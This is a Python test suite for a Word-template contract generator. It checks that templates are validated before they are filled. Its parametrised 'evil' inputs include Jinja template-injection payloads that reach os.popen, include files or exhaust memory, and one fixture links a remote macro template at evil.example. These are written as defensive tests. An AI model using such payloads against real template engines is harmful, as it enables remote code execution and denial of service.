"""Templates: what they may say, what they may not, and what stands in the file afterwards."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document

from geo.io.word import drawing
from linkage.contracts import (
    NAMES,
    Contract,
    Party,
    TemplateProblem,
    default_template,
    draw,
    sample,
    try_out,
)


def template_of(*lines: str) -> bytes:
    """A Word file with these paragraphs."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def words_of(file: bytes) -> str:
    """All text of a Word file: paragraphs, tables, footer."""
    document = Document(BytesIO(file))
    paragraphs = [*document.paragraphs, *document.sections[0].footer.paragraphs]
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(each.text for each in paragraphs), *cells])


def with_part(file: bytes, name: str, content: bytes) -> bytes:
    """The same file with one more part, or with that part replaced."""
    packed = BytesIO()
    with ZipFile(BytesIO(file)) as old, ZipFile(packed, "w") as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return packed.getvalue()


def problem_of(file: bytes) -> TemplateProblem:
    with pytest.raises(TemplateProblem) as caught:
        try_out(file)
    return caught.value


def test_the_products_own_template_stands_its_trial():
    try_out(default_template())


def test_every_name_can_be_written():
    lines = [f"{{{{ {name} }}}}" for name in NAMES if not name.startswith(("month.", "stage"))]
    lines += [
        "{%p for month in months %}",
        "{{ month.name }}: {{ month.quantity }}",
        "{%p endfor %}",
    ]
    lines += ["{% for stage in stages %}{{ stage }}{% if not loop.last %}; {% endif %}{% endfor %}"]
    words = words_of(draw(template_of(*lines), sample()))
    assert "Tháng 5: 60.000" in words
    assert "Cung ứng vật tư, dịch vụ đầu vào; Tổ chức sản xuất, thu hoạch" in words


@pytest.mark.parametrize(
    "evil",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ supplier.__class__ }}",
        "{{ supplier['__class__'] }}",
        "{{ supplier|attr('__class__') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__.__globals__ }}",
        "{{ code.format(supplier) }}",
        "{{ code ~ number }}",
        "{{ 'x' * 99999999 }}",
        "{{ 9**9**9 }}",
        "{% for i in range(10**9) %}{{ i }}{% endfor %}",
        "{% set x = 1 %}",
        "{% macro m() %}{% endmacro %}",
        "{% include 'settings.py' %}",
        "{% import 'os' as os %}",
        "{{ lipsum() }}",
        "{{ code|center(99999999) }}",
        "{% for stage in stages recursive %}{{ loop(stages) }}{% endfor %}",
        "{{ supplier }}{{ supplier.name.upper() }}",
        "{% for a in months %}{% for b in months %}{{ b.name }}{% endfor %}{% endfor %}",
    ],
)
def test_programs_are_refused_before_they_run(evil):
    assert problem_of(template_of(evil)).code in {"not_allowed", "unknown"}


@pytest.mark.parametrize("place", ["footer", "header"])
def test_they_are_refused_in_the_margins_too(place):
    document = Document()
    getattr(document.sections[0], place).paragraphs[0].text = "{{ code.__class__ }}"
    file = BytesIO()
    document.save(file)
    assert problem_of(file.getvalue()).code in {"not_allowed", "unknown"}


def test_a_wrong_name_is_named_with_the_one_that_was_meant():
    problem = problem_of(template_of("{{ suplier.name }}"))
    assert (problem.code, problem.what, problem.near) == ("unknown", "suplier", "supplier")
    problem = problem_of(template_of("{{ supplier.tax_cod }}"))
    assert (problem.what, problem.near) == ("supplier.tax_cod", "supplier.tax_code")


def test_an_unclosed_condition_says_where():
    problem = problem_of(template_of("Giá: {% if price %}{{ price }}", "hết"))
    assert problem.code == "syntax"


def test_files_that_are_no_plain_word_file(monkeypatch):
    plain = template_of("{{ code }}")
    assert problem_of(b"%PDF-1.7").code == "not_docx"
    assert problem_of(b"PK\x03\x04 ...").code == "not_docx"
    assert problem_of(with_part(plain, "word/vbaProject.bin", b"x")).code == "macro"
    assert problem_of(with_part(plain, "word/embeddings/a.xlsx", b"x")).code == "macro"
    link = b'<Relationships><Relationship Id="r9" Type="x/attachedTemplate" '
    link += b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    outside = with_part(plain, "word/_rels/settings.xml.rels", link)
    assert problem_of(outside).code == "outside"
    bomb = with_part(plain, "word/bomb.xml", b" " * (drawing.LARGEST_PART + 1))
    assert problem_of(bomb).code == "too_big"
    monkeypatch.setattr(drawing, "LARGEST", 10)
    assert problem_of(plain).code == "too_big"


def test_what_people_wrote_stays_text():
    nobody = Party(name='Công ty <b>"A & B"</b> {{ code }} \x0b')
    contract = Contract(
        "LK-1", "1", nobody, nobody, commodity="Chè", starts="x", quality="một\nhai"
    )
    words = words_of(draw(template_of("{{ supplier.name }}", "{{ quality }}"), contract))
    assert 'Công ty <b>"A & B"</b> {{ code }}' in words
    assert "một\nhai" in words


def test_what_is_not_stated_is_left_to_be_filled_in():
    nobody = Party(name="Tổ hợp tác Rau Sạch")
    words = words_of(
        draw(default_template(), Contract("LK-1", "1", nobody, nobody, "Rau", "hôm nay"))
    )
    assert "Sản lượng mỗi năm: ……" in words
    assert "Đơn giá" not in words
    assert "không xác định thời hạn" in words
    assert "None" not in words
